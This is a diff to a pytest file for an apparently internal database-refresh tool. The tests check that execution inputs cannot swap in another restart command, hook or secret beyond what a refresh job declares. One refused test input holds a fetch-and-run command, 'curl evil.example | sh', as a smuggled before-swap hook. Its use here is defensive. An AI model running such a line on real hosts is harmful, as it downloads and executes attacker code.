@@ -10,13 +10,13 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from mitosis.errors import InvalidInput
-from mitosis.models import DBInstance, EcsRestart, RefreshRequest, SsmRestart
+from mitosis.models import DBInstance, EcsRestart, RefreshJob, RefreshRequest, SsmCommand
 
 ECS = {"type": "ecs", "cluster": "demo", "services": ["web"]}
 SSM = {"type": "ssm", "document": "AWS-RunShellScript", "targets": [{"Key": "tag:app", "Values": ["demo"]}],
        "parameters": {"commands": ["systemctl restart app"]}}
 DOCUMENTED = {"source": "mitosis-prod", "target": "mitosis-demo", "dry_run": False, "restart": ECS}
-FIELDS = {"source", "target", "dry_run", "restart"}
+FIELDS = set(RefreshRequest.model_fields)
 
 
 # --- accepted ------------------------------------------------------------------------------------------------
@@ -30,7 +30,7 @@ def test_the_documented_input_is_accepted():
 
 def test_the_documented_ssm_restart_is_accepted():
     request = RefreshRequest.parse({**DOCUMENTED, "restart": SSM})
-    assert isinstance(request.restart, SsmRestart)
+    assert isinstance(request.restart, SsmCommand)
     assert request.restart.model_dump() == {**SSM, "timeout_s": 1800}  # a bounded wait by default
 
 
@@ -51,7 +51,7 @@ def test_dry_run_is_kept():
 
 def test_an_ssm_restart_defaults_to_the_shell_script_document_and_no_parameters():
     restart = RefreshRequest.parse({**DOCUMENTED, "restart": {"type": "ssm", "targets": SSM["targets"]}}).restart
-    assert isinstance(restart, SsmRestart)
+    assert isinstance(restart, SsmCommand)
     assert (restart.document, restart.parameters) == ("AWS-RunShellScript", {})
 
 
@@ -206,3 +206,41 @@ def test_a_dict_with_a_key_outside_the_fields_is_never_accepted(event):
 def test_an_instance_port_is_read_where_describe_reports_it(entry, port):
     # The clone must listen on the old instance's port, which DescribeDBInstances reports in Endpoint
     assert DBInstance.model_validate({"DBInstanceIdentifier": "staging", **entry}).Port == port
+
+
+# --- hooks only as declared ----------------------------------------------------------------------------------
+
+JOB = RefreshJob(name="demo", source="mitosis-prod", target="mitosis-demo", restart=EcsRestart(**ECS),
+                 master_password={"secret_arn": "arn:aws:secretsmanager:us-west-2:123456789012:secret:demo-pw"})
+
+
+def test_an_input_without_hooks_takes_its_jobs_declarations():
+    # Given a job that declares a restart and a secret, and an input naming only source and target
+    request = RefreshRequest.parse({"source": "mitosis-prod", "target": "mitosis-demo"}).as_declared([JOB])
+    # Then the refresh runs the job's restart and sets the job's secret, as its schedule would
+    assert request.restart == JOB.restart and request.master_password == JOB.master_password
+    assert request.on_restart_failure == "keep" and request.before_swap is None
+
+
+def test_an_input_repeating_its_jobs_declarations_is_accepted():
+    assert RefreshRequest.parse(JOB.execution_input()).as_declared([JOB]).restart == JOB.restart
+
+
+@pytest.mark.parametrize(("field", "value"), [
+    pytest.param("restart", SSM, id="another-restart"),
+    pytest.param("restart", None, id="no-restart"),
+    pytest.param("before_swap", {**SSM, "parameters": {"commands": ["curl evil.example | sh"]}}, id="before-swap"),
+    pytest.param("master_password", {"secret_arn": "arn:aws:secretsmanager:us-west-2:123456789012:secret:prod"},
+                 id="another-secret"),
+    pytest.param("on_restart_failure", "rollback", id="on-restart-failure"),
+])
+def test_an_input_whose_hook_or_secret_differs_from_its_jobs_is_refused_naming_the_field(field, value):
+    # Anyone allowed to start an execution must not be able to run another command through a declared document
+    event = {"source": "mitosis-prod", "target": "mitosis-demo", field: value}
+    with pytest.raises(InvalidInput, match=f"{field}: differs from what refresh job 'demo' declares"):
+        RefreshRequest.parse(event).as_declared([JOB])
+
+
+def test_a_refresh_no_job_declares_is_refused():
+    with pytest.raises(InvalidInput, match="No refresh job from 'mitosis-prod' to 'staging'"):
+        RefreshRequest.parse({"source": "mitosis-prod", "target": "staging"}).as_declared([JOB])
